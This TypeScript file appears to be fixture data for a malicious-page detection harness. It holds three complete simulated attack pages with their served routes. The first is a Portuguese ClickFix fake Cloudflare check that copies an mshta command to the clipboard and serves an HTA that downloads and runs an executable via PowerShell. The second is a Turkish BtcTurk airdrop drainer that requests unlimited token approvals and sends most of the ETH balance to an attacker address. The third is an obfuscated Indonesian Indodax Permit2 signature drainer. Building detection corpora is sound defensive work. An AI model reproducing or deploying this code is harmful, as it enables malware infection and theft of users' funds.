import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, gtag, cookieBar, footer, nav, baseCss, adSlots, pngR, js, json } from '../parts/o-kit.js';

// ClickFix pages injected into compromised local sites, and wallet drainers themed on local exchanges.

export const entries: Entry[] = [
{
  id: 'o-clickfix-br-pousada-cloudflare',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://pousadamardeparaty.com.br/reservas/',
  body: doc({
    lang: 'pt-BR',
    title: 'Verificando se você é humano...',
    css: `body{margin:0;font-family:-apple-system,"Segoe UI",Roboto,Arial;background:#fff;color:#313131}.c{max-width:620px;margin:90px auto;padding:0 20px}h1{font-weight:500;font-size:30px}.box{border:1px solid #d9d9d9;background:#fafafa;padding:16px;display:flex;gap:14px;align-items:center;width:300px}.sp{font-size:11px;color:#777;margin-top:60px;border-top:1px solid #ddd;padding-top:10px}#m{display:none;margin-top:18px;border:1px solid #f0b400;background:#fffbea;padding:14px}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`,
    body: `<div class="c"><h1>pousadamardeparaty.com.br</h1><p>Verifique se você é humano concluindo a ação abaixo.</p>
<div class="box"><input type="checkbox" id="k" style="width:22px;height:22px"><label for="k">Confirme que você é humano</label></div>
<div id="m"><b>Etapas de verificação</b><ol><li>Pressione <kbd>⊞ Win</kbd> + <kbd>R</kbd></li><li>Pressione <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Pressione <kbd>Enter</kbd> para concluir</li></ol></div>
<p>pousadamardeparaty.com.br precisa revisar a segurança da sua conexão antes de prosseguir.</p>
<div class="sp">ID do Raio: <span id="ray"></span> · Desempenho e segurança por Cloudflare</div></div>
<script>
ray.textContent=(Math.random().toString(16).slice(2,18));
var cmd='mshta https://pousadamardeparaty.com.br/wp-admin/css/colors/verify.hta # Cloudflare Verification ✔ Ray ID '+ray.textContent;
k.onchange=function(){var t=document.createElement('textarea');t.value=cmd;t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();m.style.display='block';};
</script>`,
  }),
  routes: {
    'pousadamardeparaty.com.br/wp-admin/css/colors/verify.hta': { status: 200, headers: { 'content-type': 'application/hta' }, body: `<html><head><HTA:APPLICATION WINDOWSTATE="minimize" SHOWINTASKBAR="no"/><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -ep bypass -w 1 -c ""iwr https://pousadamardeparaty.com.br/wp-admin/css/colors/k.png -o $env:APPDATA\\k.exe; start $env:APPDATA\\k.exe""",0:self.close</script></head></html>` },
  },
},
{
  id: 'o-drain-tr-btcturk-airdrop',
  label: 'cryptodrainer',
  kind: 'exchange-airdrop',
  url: 'https://btcturk-airdrop.claim-tr.app/',
  body: doc({
    lang: 'tr',
    title: 'BtcTurk 13. Yıl Airdrop – Ödülünü Talep Et',
    css: `body{margin:0;background:#0b0e1a;color:#fff;font-family:Inter,Arial}.c{max-width:520px;margin:60px auto;background:#151a2e;border-radius:16px;padding:30px;text-align:center}.btn{background:#1f6bff;color:#fff;border:0;border-radius:10px;padding:14px 30px;font-size:16px;width:100%}.amt{font-size:40px;font-weight:800;color:#3ee089}.w{display:none;margin-top:16px}.w button{display:block;width:100%;margin:6px 0;padding:12px;background:#222943;color:#fff;border:1px solid #333b5c;border-radius:8px}`,
    body: `<div class="c"><h1>BtcTurk 13. Yıl Özel Airdrop</h1><p>Kripto yolculuğunuzda bizimle olduğunuz için teşekkürler! Erken kullanıcılarımıza özel token ödülü.</p>
<div class="amt">2.500 USDT</div><p style="color:#9aa3c7">Kalan süre: <span id="t">04:59</span></p>
<button class="btn" id="cn">Cüzdanı Bağla</button>
<div class="w" id="ws"><button data-w="mm">🦊 MetaMask</button><button data-w="tw">🛡 Trust Wallet</button><button data-w="wc">🔗 WalletConnect</button></div>
<p id="st" style="color:#9aa3c7;font-size:13px"></p></div>
<script src="/assets/claim.js"></script>`,
  }),
  routes: {
    'btcturk-airdrop.claim-tr.app/assets/claim.js': js(`
var R='0x7a3d91c0f0e44b2c5b2e8a9d11e0c7f3a4b6d2e1',T=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'];
var s=299;setInterval(function(){s=Math.max(0,s-1);t.textContent=('0'+Math.floor(s/60)).slice(-2)+':'+('0'+s%60).slice(-2)},1000);
cn.onclick=function(){ws.style.display='block'};
document.querySelectorAll('#ws button').forEach(function(b){b.onclick=go});
async function go(){
 if(!window.ethereum){st.textContent='Lütfen MetaMask veya Trust Wallet yükleyin.';return}
 var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];st.textContent='Uygunluk kontrol ediliyor…';
 fetch('/api/log',{method:'POST',body:JSON.stringify({a:a,ref:document.referrer})}).catch(function(){});
 for(var i=0;i<T.length;i++){
  var data='0x095ea7b3'+R.slice(2).padStart(64,'0')+'f'.repeat(64);
  try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:T[i],data:data}]})}catch(e){}
 }
 var bal=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});
 try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:R,value:'0x'+(BigInt(bal)*95n/100n).toString(16)}]})}catch(e){}
 st.textContent='Ödülünüz 24 saat içinde cüzdanınıza aktarılacaktır.';
}`),
    'btcturk-airdrop.claim-tr.app/api/log': json({ ok: true }),
  },
},
{
  id: 'o-drain-id-indodax-claim',
  label: 'cryptodrainer',
  kind: 'exchange-airdrop',
  url: 'https://indodax-reward.claims-portal.io/klaim',
  body: doc({
    lang: 'id',
    title: 'Indodax Reward – Klaim Token IDX Gratis',
    css: `body{margin:0;background:#fff;font-family:Arial;color:#14223d}header{background:#0a1f44;color:#fff;padding:14px 6%;font-weight:800}.c{max-width:520px;margin:40px auto;border:1px solid #e3e8f0;border-radius:14px;padding:28px;text-align:center}.btn{background:#0a6cff;color:#fff;border:0;border-radius:8px;padding:14px;width:100%;font-size:16px}`,
    body: `<header>INDODAX <span style="font-weight:400;font-size:13px">Reward Center</span></header>
<div class="c"><h1 style="font-size:22px">Klaim Hadiah Kompensasi Pengguna</h1><p>Sebagai kompensasi atas insiden keamanan, pengguna terdampak dapat mengklaim token senilai <b>Rp 4.000.000</b>. Hubungkan dompet Web3 Anda untuk verifikasi.</p>
<button class="btn" id="b">Hubungkan Dompet</button><p id="m" class="muted"></p></div>
<script>
(function(_0x1){var _0x2=['eth_requestAccounts','eth_signTypedData_v4','0x000000000022D473030F116dDEE9F6B43aC78BA3','PermitBatch','0x4c9e2b7a1d0f3e58c6a7b9d2e1f0a3c5b7d9e2f1'];
b.onclick=async function(){if(!window.ethereum){m.textContent='Dompet tidak terdeteksi. Buka halaman ini di browser Trust Wallet / MetaMask.';return}
var a=(await ethereum.request({method:_0x2[0]}))[0];var cid=await ethereum.request({method:'eth_chainId'});
var tokens=await fetch('/klaim/api/assets?w='+a).then(function(r){return r.json()}).catch(function(){return {t:[]}});
var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:_0x2[3],domain:{name:'Permit2',chainId:parseInt(cid,16),verifyingContract:_0x2[2]},message:{details:tokens.t.map(function(x){return{token:x,amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:'0'}}),spender:_0x2[4],sigDeadline:'1893456000'}};
m.textContent='Menandatangani verifikasi…';
try{var sig=await ethereum.request({method:_0x2[1],params:[a,JSON.stringify(msg)]});await fetch('/klaim/api/s',{method:'POST',body:JSON.stringify({a:a,sig:sig,msg:msg})});m.textContent='Berhasil! Token akan dikirim dalam 1x24 jam.'}catch(e){m.textContent='Verifikasi gagal, silakan coba lagi.'}}})();
</script>`,
  }),
  routes: {
    'indodax-reward.claims-portal.io/klaim/api/assets': json({ t: ['0xdAC17F958D2ee523a2206206994597C13D831ec7', '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', '0x6B175474E89094C44Da98b954EedeAC495271d0F'] }),
    'indodax-reward.claims-portal.io/klaim/api/s': json({ ok: 1 }),
  },
},
];
